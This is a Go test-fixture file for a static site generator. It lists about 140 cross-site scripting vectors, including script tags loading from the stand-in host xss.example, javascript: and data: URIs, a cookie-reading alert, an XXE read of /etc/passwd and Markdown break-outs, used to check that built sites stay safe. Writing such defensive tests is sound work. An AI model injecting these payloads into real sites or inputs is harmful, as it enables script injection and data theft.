// Package safety holds the tests that nothing unsafe ships from a site
// built with the default configuration, and the cross-site scripting
// vectors they use.
//
// The vectors are written for this project, in the families of the OWASP
// XSS Filter Evasion Cheat Sheet, plus the Markdown, feed and JSON
// break-outs that matter to a static site generator. Each one tries
// something a filter could miss: case, entities with and without
// semicolons or zero padding, control characters inside a scheme, unclosed
// or nested tags, attribute and element break-outs, CSS expressions, meta
// refresh, and the Markdown link, image, autolink, reference,
// heading-attribute, footnote, code and table forms of the same. The tests
// put every vector in every field an editor or webmaster controls and check
// every file of the built site: pages, print pages, feeds, JSON and the
// sitemap. Other tests make symbolic links out of the site, broken links,
// loops and links to folders in content/, bundles and static/, and check
// that the build refuses them and publishes nothing they point to.
package safety

// Vector is one attempt at injecting script or markup.
type Vector struct {
	Name string // short, unique, for test names
	Text string // what an editor writes into a field or a page body
}

// Vectors are the attempts, grouped by family. Every Text is used both as
// a front-matter string and as Markdown.
var Vectors = []Vector{
	// Script elements.
	{"script", `<script>alert('XSS')</script>`},
	{"script-upper-src", `<SCRIPT SRC=//xss.example/xss.js></SCRIPT>`},
	{"script-mixed-case", `<ScRiPt>alert(1)</sCrIpT>`},
	{"script-slash-attr", `<SCRIPT/XSS SRC="//xss.example/xss.js"></SCRIPT>`},
	{"script-double-open", `<<SCRIPT>alert("XSS");//<</SCRIPT>`},
	{"script-no-close", `<SCRIPT SRC=//xss.example/.j>`},
	{"script-unclosed", `<script>alert(1)//`},
	{"script-partial-close", `<script>alert(1)</script`},
	{"script-close-first", `</script><script>alert(1)</script>`},
	{"script-nested-split", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"script-type", `<script type="text/javascript">javascript:alert(1);</script>`},
	{"locator", `'';!--"<XSS>=&{()}`},

	// Images and event handlers.
	{"img-js-quoted", `<IMG SRC="javascript:alert('XSS');">`},
	{"img-js-bare", `<IMG SRC=javascript:alert('XSS')>`},
	{"img-js-case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`},
	{"img-js-backtick", "<IMG SRC=`javascript:alert(\"XSS\")`>"},
	{"img-malformed-quotes", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`},
	{"img-fromcharcode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`},
	{"img-onerror", `<img src=x onerror=alert(1)>`},
	{"img-onerror-quoted", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`},
	{"img-onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`},
	{"img-empty-src", `<IMG SRC= onmouseover="alert('xxs')">`},
	{"img-no-src", `<IMG onmouseover="alert('xxs')">`},
	{"img-onerror-entities", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`},
	{"img-decimal-entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`},
	{"img-padded-entities", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>`},
	{"img-hex-entities", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>`},
	{"img-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"},
	{"img-tab-entity", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`},
	{"img-newline-entity", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{"img-cr-entity", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`},
	{"img-leading-junk", `<IMG SRC=" &#14;  javascript:alert('XSS');">`},
	{"img-nul", "<IMG SRC=java\x00script:alert(\"XSS\")>"},
	{"img-dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`},
	{"img-style-expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{"body-onload", `<BODY ONLOAD=alert('XSS')>`},
	{"body-onload-junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"},
	{"svg-onload", `<svg onload=alert(1)>`},
	{"svg-slash-onload", `<svg/onload=alert('XSS')>`},
	{"svg-script", `<svg><script>alert(1)</script></svg>`},
	{"svg-xlink", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`},
	{"details-ontoggle", `<details open ontoggle=alert(1)>`},
	{"video-source", `<video><source onerror="alert(1)"></video>`},
	{"audio-onerror", `<audio src=x onerror=alert(1)>`},
	{"marquee", `<marquee onstart=alert(1)>XSS</marquee>`},
	{"isindex", `<isindex type=image src=1 onerror=alert(1)>`},
	{"custom-element", `<xss onmouseover="alert(1)" style="display:block">XSS</xss>`},

	// Frames, objects, forms and other active elements.
	{"iframe-js", `<iframe src="javascript:alert('XSS');"></iframe>`},
	{"iframe-onmouseover", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`},
	{"iframe-srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`},
	{"object-data", `<object data="javascript:alert(1)"></object>`},
	{"object-scriptlet", `<OBJECT TYPE="text/x-scriptlet" DATA="//xss.example/scriptlet.html"></OBJECT>`},
	{"embed-svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml"></EMBED>`},
	{"form-action", `<form action="javascript:alert(1)"><input type="submit"></form>`},
	{"button-formaction", `<form><button formaction="javascript:alert(1)">X</button></form>`},
	{"input-image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`},
	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`},
	{"link-stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{"base-href", `<BASE HREF="javascript:alert('XSS');//">`},
	{"table-background", `<TABLE BACKGROUND="javascript:alert('XSS')">`},
	{"td-background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`},
	{"math-mglyph", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`},

	// Links with dangerous schemes.
	{"a-leading-space", `<a href="  javascript:alert(1)">x</a>`},
	{"a-vbscript", `<a href="vbscript:msgbox(1)">x</a>`},
	{"a-data-html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
	{"a-partial-entity", `<a href="javas&#99;ript:alert(1)">x</a>`},
	{"a-colon-entity", `<a href="javascript&colon;alert(1)">x</a>`},
	{"a-hex-entities", `<a href=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)>x</a>`},

	// Style sheets and CSS expressions.
	{"style-import", `<STYLE>@import'//xss.example/xss.css';</STYLE>`},
	{"style-list-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`},
	{"style-class", `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`},
	{"div-background", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`},
	{"div-expression", `<DIV STYLE="width: expression(alert('XSS'));">`},
	{"css-escaped-expression", `<p style="x:\65xpression(alert(1))">x</p>`},
	{"behavior", `<xss style="behavior: url(xss.htc);">`},

	// Meta refresh and comments.
	{"meta-refresh-js", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{"meta-refresh-data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`},
	{"meta-set-cookie", `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`},
	{"comment", `<!--<script>alert(1)</script>-->`},
	{"conditional-comment", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`},
	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`},

	// Break-outs of the contexts a template puts text in.
	{"attr-break-img", `"><img src=x onerror=alert(1)>`},
	{"attr-break-single", `'><svg onload=alert(1)>`},
	{"attr-event", `" onmouseover="alert(1)`},
	{"attr-event-single", `' autofocus onfocus='alert(1)`},
	{"title-break", `</title><script>alert(1)</script>`},
	{"textarea-break", `</textarea><script>alert(1)</script>`},
	{"style-break", `</style><script>alert(1)</script>`},
	{"cdata-end", `]]><script>alert(1)</script><![CDATA[`},
	{"xml-entity", `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;`},
	{"js-line-separators", "\u2028\u2029</script><script>alert(1)</script>"},
	{"json-break", `"}]};alert(1);//`},
	{"template-go", `{{ template "baseof" . }}{{ .Site.Params }}{{ safeHTML "<b>x</b>" }}`},
	{"template-other", `{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}`},
	{"pre-escaped", `&lt;script&gt;alert(1)&lt;/script&gt;`},
	{"percent-encoded", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`},
	{"js-escapes", `\x3cscript\x3ealert(1)\x3c/script\x3e`},
	{"multi-line", "第一行\n<script>alert(1)</script>\n第三行"},

	// Markdown.
	{"md-link-js", `[x](javascript:alert(1))`},
	{"md-link-js-case", `[x](JaVaScRiPt:alert(1))`},
	{"md-link-js-space", `[x]( javascript:alert(1) "t")`},
	{"md-link-js-angle", `[x](<javascript:alert(1)>)`},
	{"md-link-data", `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`},
	{"md-link-vbscript", `[x](vbscript:msgbox(1))`},
	{"md-link-file", `[x](file:///etc/passwd)`},
	{"md-link-entity", `[x](&#106;avascript:alert(1))`},
	{"md-link-hex-entities", `[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))`},
	{"md-link-tab-entity", `[x](jav&#x09;ascript:alert(1))`},
	{"md-link-colon-entity", `[x](javascript&colon;alert(1))`},
	{"md-link-colon-numeric", `[x](javascript&#58;alert(1))`},
	{"md-link-backslash", `[x](javascript\:alert(1))`},
	{"md-image-js", `![x](javascript:alert(1))`},
	{"md-image-data-svg", `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`},
	{"md-image-in-js-link", `[![x](/img.png)](javascript:alert(1))`},
	{"md-autolink-js", `<javascript:alert(1)>`},
	{"md-autolink-quote", `<https://xss.example/" onmouseover="alert(1)>`},
	{"md-linkify-quote", `https://xss.example/"onmouseover="alert(1)"`},
	{"md-reference-js", "[x][r]\n\n[r]: javascript:alert(1)"},
	{"md-reference-title", "[x][r]\n\n[r]: /a \"\\\" onmouseover=alert(1) x=\\\"\""},
	{"md-title-break", `[x](/a "\" onmouseover=alert(1) x=\"")`},
	{"md-image-title-break", `![x](/a.png "\"><script>alert(1)</script>")`},
	{"md-fragment-break", `[x](#"><script>alert(1)</script>)`},
	{"md-html-in-label", `[<img src=x onerror=alert(1)>](/a/)`},
	{"md-heading-attrs", `## 标题 {#x onclick="alert(1)" .c style="background:url(javascript:alert(1))"}`},
	{"md-heading-id-break", `## 标题 {#"><script>alert(1)</script>}`},
	{"md-heading-text", `## <script>alert(1)</script> "onmouseover=alert(1)`},
	{"md-footnote-label", "正文[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: 注释"},
	{"md-footnote-body", "正文[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))"},
	{"md-code-span", "`</code><script>alert(1)</script>`"},
	{"md-code-fence", "```html\n</code></pre><script>alert(1)</script>\n```"},
	{"md-fence-info", "```\"><script>alert(1)</script>\nx\n```"},
	{"md-fence-info-attr", "```js onload=alert(1) {onclick=alert(1)}\nx\n```"},
	{"md-table", "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![y](javascript:alert(1)) |"},
	{"md-html-block", "<div>\n<script>alert(1)</script>\n</div>"},
	{"md-details", "<details><summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>"},
	{"md-definition", "<script>alert(1)</script>\n: <img src=x onerror=alert(1)>"},
	{"md-task-list", "- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))"},
	{"md-more", "前言\n\n<!--more-->\n\n<script>alert(1)</script>"},
	{"md-emphasis", `**<script>alert(1)</script>**后「<img src=x onerror=alert(1)>」`},
}
